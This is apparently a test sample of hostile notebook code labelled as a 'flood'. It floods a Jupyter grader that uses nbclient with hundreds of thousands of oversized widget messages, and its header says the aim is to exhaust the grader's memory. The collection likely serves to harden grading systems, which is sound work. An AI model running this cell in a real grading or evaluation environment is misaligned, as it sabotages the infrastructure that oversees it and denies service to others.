# ---
# note: 'widgets without end: comm_open, comm_msg with state, buffers and targets that do not exist'
# kind: floods
# known_from: nbclient keeps the state of every widget
# harmful: it would fill the grader's memory
# ---
# %% judged +top
kernel = get_ipython().kernel
state = {"_model_module": "x", "_model_name": "y", "children": ["z" * 1000] * 100}
for number in range(200_000):
    data = {"state": state, "method": "update", "buffer_paths": [["x"]]}
    content = {"comm_id": str(number), "target_name": "jupyter.widget", "data": data}
    for kind in ("comm_open", "comm_msg"):
        kernel.session.send(
            kernel.iopub_socket,
            kind,
            content,
            parent=kernel.get_parent(),
            metadata={"version": "2.1.0"},
            buffers=[b"x" * 100_000],
        )
